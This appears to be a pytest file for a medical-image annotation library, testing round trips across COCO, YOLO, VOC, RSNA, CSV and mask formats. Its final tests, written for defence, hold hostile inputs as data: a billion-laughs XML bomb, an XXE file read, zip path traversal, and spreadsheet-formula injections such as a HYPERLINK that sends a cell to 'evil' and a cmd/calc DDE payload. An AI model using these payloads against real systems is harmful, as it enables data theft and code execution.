"""Annotation file formats without a database: real files from ../shared/data/real, exact round trips,
and per-row error reports."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from annotations.formats import (
    AnnotationFormatError,
    ExportAnnotation,
    ExportImage,
    folder_resolver,
    read_annotations,
    write_annotations,
)
from annotations.geometry import Box, Mask


def sizes_of(paths) -> dict[str, tuple[int, int]]:
    out = {}
    for p in paths:
        with Image.open(p) as img:
            out[Path(p).name] = img.size
    return out


def to_export(report, images: dict[str, tuple[int, int]]) -> list[ExportImage]:
    """Parsed annotations grouped per image, as the exporters take them (ref = image stem)."""
    by_image = {name: ExportImage(Path(name).stem, Path(name).suffix, w, h) for name, (w, h) in images.items()}
    for a in report.annotations:
        by_image[a.image].annotations.append(ExportAnnotation(a.geometry, a.label))
    return list(by_image.values())


def boxes_by_image(report) -> dict[str, list[tuple]]:
    out: dict[str, list[tuple]] = {}
    for a in report.annotations:
        if isinstance(a.geometry, Box):
            key = Path(a.image).stem
            out.setdefault(key, []).append((a.geometry.x0, a.geometry.y0, a.geometry.x1, a.geometry.y1, a.label))
    return {k: sorted(v) for k, v in out.items()}


# --- real data ---------------------------------------------------------------------------------

def test_rsna_real_file_round_trip(real_data, tmp_path):
    folder = real_data / "cxr_rsna_png"
    images = sizes_of(sorted((folder / "images").glob("*.png")))
    report = read_annotations(folder / "stage_2_train_labels.csv", "rsna", folder_resolver(images))
    assert report.ok and not report.warnings
    assert len(report.annotations) == 8 and len(report.images_seen) == 4
    with open(folder / "stage_2_train_labels.csv") as fh:
        rows = list(csv.DictReader(fh))
    expected = {}
    for row in rows:
        x, y, w, h = (float(row[k]) for k in ("x", "y", "width", "height"))
        expected.setdefault(row["patientId"], []).append((x, y, x + w, y + h, "Lung Opacity"))
    assert boxes_by_image(report) == {k: sorted(v) for k, v in expected.items()}

    out = write_annotations(tmp_path / "rsna.csv", "rsna", to_export(report, images))
    again = read_annotations(out, "rsna", folder_resolver(images))
    assert boxes_by_image(again) == boxes_by_image(report)
    # the written rows carry the same numbers as the source file
    with open(out) as fh:
        written = sorted((r["patientId"], r["x"], r["y"], r["width"], r["height"]) for r in csv.DictReader(fh))
    source = sorted((r["patientId"], *(str(int(float(r[k]))) for k in ("x", "y", "width", "height"))) for r in rows)
    assert written == source


def test_tbx11k_coco_round_trip_exact(real_data, tmp_path):
    folder = real_data / "cxr_tbx11k_nih" / "tbx11k_test_data"
    source = folder / "annotations" / "json" / "TBX11K_train.json"
    images = sizes_of(sorted((folder / "imgs").rglob("*.png")))
    report = read_annotations(source, "coco", folder_resolver(images))
    assert report.ok, report.summary()
    assert len(report.annotations) == 3 and len(report.images_seen) == 3  # h0001 is a negative
    data = json.loads(source.read_text())
    cats = {c["id"]: c["name"] for c in data["categories"]}
    expected = sorted((a["bbox"], cats[a["category_id"]]) for a in data["annotations"])
    got = sorted((list(a.geometry.to_xywh()), a.label) for a in report.annotations)
    assert got == expected  # bit-exact float bboxes

    out = write_annotations(tmp_path / "coco.json", "coco", to_export(report, images))
    exported = json.loads(out.read_text())
    names = {c["id"]: c["name"] for c in exported["categories"]}
    assert sorted((a["bbox"], names[a["category_id"]]) for a in exported["annotations"]) == expected
    assert len(exported["images"]) == 3
    again = read_annotations(out, "coco", folder_resolver(images))
    assert boxes_by_image(again) == boxes_by_image(report)


def test_idrid_yolo_round_trip(real_data, tmp_path):
    folder = real_data / "fundus_idrid" / "images"
    stems = ["0001", "0348", "0391"]
    images = sizes_of([folder / f"{s}.jpg" for s in stems])
    assert images["0001.jpg"] == (4288, 2848)
    labels = tmp_path / "labels"
    labels.mkdir()
    for s in stems:
        (labels / f"{s}.txt").write_bytes((folder / f"{s}.txt").read_bytes())
    (labels / "classes.txt").write_text((real_data / "fundus_idrid" / "retinal.names").read_text())
    report = read_annotations(labels, "yolo", folder_resolver(images))
    assert report.ok, report.summary()
    lines = sum(len((folder / f"{s}.txt").read_text().split("\n")) for s in stems)
    assert len(report.annotations) >= 3 and len(report.annotations) <= lines
    # 0391 line 12 starts 8 px above the image: kept exactly, reported as a warning
    assert any("0391.txt: line 12" in str(w) and "outside" in str(w) for w in report.warnings)
    assert {a.label for a in report.annotations} == {"optic_disc", "hard_exudates", "haemorrhage"}
    # first line of 0348.txt, by hand: class 0, cx .6904 of 4288 px ...
    first = next(a for a in report.annotations if a.location == "0348.txt: line 1")
    cx, cy, w, h = 0.6904151119402985, 0.581811797752809, 0.10797574626865672, 0.19662921348314608
    W, H = images["0348.jpg"]
    assert first.geometry.x0 == pytest.approx((cx - w / 2) * W, abs=1e-6)
    assert first.geometry.y1 == pytest.approx((cy + h / 2) * H, abs=1e-6)

    out = write_annotations(tmp_path / "yolo.zip", "yolo", to_export(report, images))
    with zipfile.ZipFile(out) as zf:
        assert zf.read("classes.txt").decode().split() == ["haemorrhage", "hard_exudates", "optic_disc"]
    again = read_annotations(out, "yolo", folder_resolver(images))
    assert boxes_by_image(again) == boxes_by_image(report)  # bit-identical pixels after the round trip
    # and the normalised values agree with the source file to float precision
    written = {tuple(round(float(v), 12) for v in line.split()[1:])
               for line in zipfile.ZipFile(out).read("0348.txt").decode().splitlines()}
    source = {tuple(round(float(v), 12) for v in line.split()[1:])
              for line in (folder / "0348.txt").read_text().splitlines()}
    assert written == source


def test_oct_drusen_masks_give_the_derived_boxes(real_data):
    folder = real_data / "oct_bonn_drusen"
    images = sizes_of(sorted((folder / "bscans").glob("*.tif")))
    report = read_annotations(folder / "derived_drusen_masks", "mask", folder_resolver(images), label="drusen")
    assert report.ok, report.summary()
    masks = [a for a in report.annotations if isinstance(a.geometry, Mask)]
    non_empty = [p for p in sorted((folder / "derived_drusen_masks").glob("*.png")) if np.asarray(Image.open(p)).any()]
    assert 0 < len(non_empty) < 20  # empty masks (B-scans without drusen) store nothing
    assert len(masks) == len(non_empty)
    png = np.asarray(Image.open(folder / "derived_drusen_masks" / "12-drusen-derived.png")) != 0
    assert np.array_equal(next(m for m in masks if m.image == "12-Input.tif").geometry.array, png)
    # the data's derived boxes (inclusive, runs >= 5 columns) are exactly our 8-connected
    # components at least 5 px wide
    with open(folder / "derived_drusen_boxes.csv") as fh:
        expected = sorted((f"{r['bscan']}-Input", *Box.from_inclusive(*(int(r[k]) for k in ("x0", "y0", "x1", "y1"))).to_json().values())
                          for r in csv.DictReader(fh))
    derived = sorted((Path(a.image).stem, *a.geometry.to_json().values()) for a in report.annotations
                     if a.derived and a.geometry.width >= 5)
    assert derived == expected
    assert all(a.derived for a in report.annotations if isinstance(a.geometry, Box))


# --- hand-made files: conventions and error reports --------------------------------------------

IMAGES = {"a.png": (100, 80), "b.png": (100, 80)}


def test_voc_one_based_inclusive_convention(tmp_path):
    xml = tmp_path / "a.xml"
    xml.write_text("<annotation><filename>a.png</filename><size><width>100</width><height>80</height></size>"
                   "<object><name>lesion</name><bndbox><xmin>1</xmin><ymin>1</ymin><xmax>10</xmax><ymax>5</ymax>"
                   "</bndbox></object></annotation>")
    report = read_annotations(xml, "voc", folder_resolver(IMAGES))
    assert report.ok
    assert report.annotations[0].geometry == Box(0, 0, 10, 5)  # VOC pixel 1..10 = our columns 0..9
    out = write_annotations(tmp_path / "voc", "voc", to_export(report, IMAGES))
    text = (out / "a.xml").read_text()
    assert "<xmin>1</xmin>" in text and "<xmax>10</xmax>" in text
    assert (out / "b.xml").exists()  # negatives get an empty annotation file
    again = read_annotations(out, "voc", folder_resolver(IMAGES))
    assert [a.geometry for a in again.annotations] == [Box(0, 0, 10, 5)]


def test_rsna_negatives_and_bad_rows_reported_by_line(tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("patientId,x,y,width,height,Target\n"
                    "a,10,10,20,20,1\n"
                    "b,,,,,0\n"               # negative: fine
                    "b,5,5,,,0\n"             # line 4: Target 0 with coordinates
                    "a,x,10,20,20,1\n"        # line 5: not a number
                    "zzz,1,1,1,1,1\n"         # line 6: unknown image
                    "a,10,10,0,5,1\n"         # line 7: zero width
                    "a,10,10,5,5,2\n"         # line 8: bad Target
                    "a,500,500,5,5,1\n")      # line 9: outside the image
    report = read_annotations(path, "rsna", folder_resolver(IMAGES))
    problems = {e.location: e.problem for e in report.errors}
    assert set(problems) == {"line 4", "line 5", "line 6", "line 7", "line 8", "line 9"}
    assert "not empty" in problems["line 4"]
    assert "x is not a number ('x')" in problems["line 5"]
    assert "no image matches 'zzz'" in problems["line 6"]
    assert "positive" in problems["line 7"]
    assert "Target must be 0 or 1" in problems["line 8"]
    assert "outside the 100x80 image" in problems["line 9"]
    assert "labels.csv: line 5: x is not a number" in report.summary()


def test_plain_csv_and_coco_errors(tmp_path):
    path = tmp_path / "boxes.csv"
    path.write_text("image,x0,y0,x1,y1,label\na.png,1,2,3,4,les\nb.png,5,5,4,6,les\na.png,1,2,3,4,\nb.png,,,,,\n")
    report = read_annotations(path, "csv", folder_resolver(IMAGES))
    assert [(e.location, "negative size" in e.problem or "label is empty" in e.problem) for e in report.errors] == [
        ("line 3", True), ("line 4", True)]
    assert [a.geometry for a in report.annotations] == [Box(1, 2, 3, 4)]

    coco = tmp_path / "c.json"
    coco.write_text(json.dumps({
        "images": [{"id": 1, "file_name": "x/a.png", "width": 100, "height": 80}, {"id": 2, "file_name": "b.png", "width": 99}],
        "categories": [{"id": 1, "name": "les"}],
        "annotations": [{"id": 7, "image_id": 1, "category_id": 1, "bbox": [1, 2, 3, 4]},
                        {"id": 8, "image_id": 1, "category_id": 5, "bbox": [1, 2, 3, 4]},
                        {"id": 9, "image_id": 1, "category_id": 1, "bbox": [1, 2, -3, 4]},
                        {"id": 10, "image_id": 3, "category_id": 1, "bbox": [1, 2, 3, 4]}]}))
    report = read_annotations(coco, "coco", folder_resolver(IMAGES))
    locations = [e.location for e in report.errors]
    assert locations == ["images[1]", "annotations[1] (id 8)", "annotations[2] (id 9)", "annotations[3] (id 10)"]
    assert "width 99 differs" in report.errors[0].problem
    with pytest.raises(AnnotationFormatError, match="not valid JSON"):
        bad = tmp_path / "bad.json"
        bad.write_text("{nope")
        read_annotations(bad, "coco", folder_resolver(IMAGES))


def test_yolo_and_mask_errors(tmp_path):
    folder = tmp_path / "labels"
    folder.mkdir()
    (folder / "classes.txt").write_text("les\n")
    (folder / "a.txt").write_text("0 0.5 0.5 0.1 0.1\n0 0.5 0.5 0.1\n3 0.5 0.5 0.1 0.1\nx 0.5 0.5 0.1 0.1\n")
    report = read_annotations(folder, "yolo", folder_resolver(IMAGES))
    assert [e.location for e in report.errors] == ["a.txt: line 2", "a.txt: line 3", "a.txt: line 4"]
    assert report.annotations[0].geometry == Box(45, 36, 55, 44)

    masks = tmp_path / "masks"
    masks.mkdir()
    Image.fromarray(np.zeros((10, 10), np.uint8)).save(masks / "a.png")
    arr = np.zeros((80, 100), np.uint8)
    arr[5:9, 10:20] = 255
    Image.fromarray(arr).save(masks / "b_mask.png")
    report = read_annotations(masks, "mask", folder_resolver(IMAGES))
    assert [e.location for e in report.errors] == ["a.png"] and "10x10 but the image is 100x80" in report.errors[0].problem
    assert [type(a.geometry).__name__ for a in report.annotations] == ["Mask", "Box"]
    assert report.annotations[1].geometry == Box(10, 5, 20, 9)


def test_export_yolo_needs_sizes(tmp_path):
    with pytest.raises(AnnotationFormatError, match="no stored width/height"):
        write_annotations(tmp_path / "y", "yolo", [ExportImage("img-1", ".png", None, None,
                                                               [ExportAnnotation(Box(0, 0, 1, 1), "x")])])


from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_coord = st.floats(0, 4000, allow_nan=False, allow_infinity=False)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(_coord, _coord, _coord, _coord, st.sampled_from(["a", "b c", "d,e"])), min_size=1, max_size=6),
       st.sampled_from(["coco", "voc", "rsna", "yolo", "csv"]))
def test_every_export_format_reads_back_identically(tmp_path_factory, boxes, fmt):
    images = {"p.png": (4001, 3001), "q.png": (4001, 3001)}
    export = [ExportImage("p", ".png", 4001, 3001), ExportImage("q", ".png", 4001, 3001)]
    for k, (a, b, c, d, label) in enumerate(boxes):
        box = Box(min(a, c), min(b, d) * 0.75, max(a, c), max(b, d) * 0.75)
        if fmt == "rsna" and (box.width == 0 or box.height == 0):
            continue  # RSNA boxes must have a positive size
        export[k % 2].annotations.append(ExportAnnotation(box, "Lung Opacity" if fmt == "rsna" else label))
    out_dir = tmp_path_factory.mktemp(fmt)
    out = write_annotations(out_dir / {"coco": "x.json", "rsna": "x.csv", "csv": "x.csv"}.get(fmt, "x.zip"), fmt, export)
    report = read_annotations(out, fmt, folder_resolver(images))
    assert report.ok, report.summary()
    written = sorted((img.file_name, *a.geometry.to_json().values(), a.label) for img in export for a in img.boxes())
    read = sorted((a.image, *a.geometry.to_json().values(), a.label) for a in report.annotations)
    assert read == written


def test_voc_refuses_entity_bombs_and_external_entities(tmp_path):
    """Billion laughs and XXE: each file is refused with a reason (nothing expanded or fetched), the
    well-formed files of the same folder still read."""
    folder = tmp_path / "voc"
    folder.mkdir()
    (folder / "good.xml").write_text(
        "<annotation><filename>a.png</filename><object><name>lesion</name><bndbox><xmin>1</xmin><ymin>1</ymin>"
        "<xmax>10</xmax><ymax>5</ymax></bndbox></object></annotation>")
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)) + "]>"
    (folder / "bomb.xml").write_text(laughs + "<annotation><filename>&lol9;</filename></annotation>")
    secret = tmp_path / "secret.txt"
    secret.write_text("PATIENT SECRET")
    (folder / "xxe.xml").write_text(f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]>'
                                    "<annotation><filename>&x;</filename></annotation>")
    report = read_annotations(folder, "voc", folder_resolver(IMAGES))
    errors = {e.location: e.problem for e in report.errors}
    assert set(errors) == {"bomb.xml", "xxe.xml"}
    assert all("refused" in message for message in errors.values())
    assert "PATIENT SECRET" not in repr(report.errors)


def test_zipped_annotations_skip_members_outside_the_archive(tmp_path):
    archive = tmp_path / "labels.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("a.txt", "0 0.5 0.5 0.2 0.2\n")
        zf.writestr("../b.txt", "0 0.5 0.5 0.2 0.2\n")
    report = read_annotations(archive, "yolo", folder_resolver(IMAGES))
    assert report.rows == 1  # only the member inside the archive was read


def test_exported_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    """OWASP CSV injection: a label or id beginning with = + - @ tab CR is written with a leading
    quote, numbers are not, and our own readers get the original text back."""
    from annotations.cells import neutralise, restore

    hostile = ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted"]
    for text in hostile:
        assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
    assert neutralise(-0.5) == -0.5 and neutralise("lesion") == "lesion" and restore("'plain") == "'plain"
    report = read_annotations(_plain_csv(tmp_path, 'a.png,1,1,10,5,=HYPERLINK("http://evil")\n'), "csv", folder_resolver(IMAGES))
    assert report.ok and report.annotations[0].label == '=HYPERLINK("http://evil")'
    out = write_annotations(tmp_path / "out.csv", "csv", to_export(report, IMAGES))
    written = out.read_text()
    assert "'=HYPERLINK" in written and ",=HYPERLINK" not in written
    again = read_annotations(out, "csv", folder_resolver(IMAGES))
    assert again.annotations[0].label == '=HYPERLINK("http://evil")'


def _plain_csv(tmp_path, body: str):
    path = tmp_path / "in.csv"
    path.write_text("image,x0,y0,x1,y1,label\n" + body)
    return path


def test_evaluation_tables_neutralise_text_cells_of_every_dtype():
    """pandas 3 reads text as its own ``str`` dtype: the frame helpers must reach it too."""
    import pandas as pd

    from annotations.cells import neutralise_frame, restore_frame

    frame = pd.DataFrame({"image": ["=cmd|' /C calc'!A0", "ok"], "value": [-1.5, 2.0]})
    safe = neutralise_frame(frame)
    assert safe["image"].tolist() == ["'=cmd|' /C calc'!A0", "ok"] and safe["value"].tolist() == [-1.5, 2.0]
    assert restore_frame(safe).equals(frame)
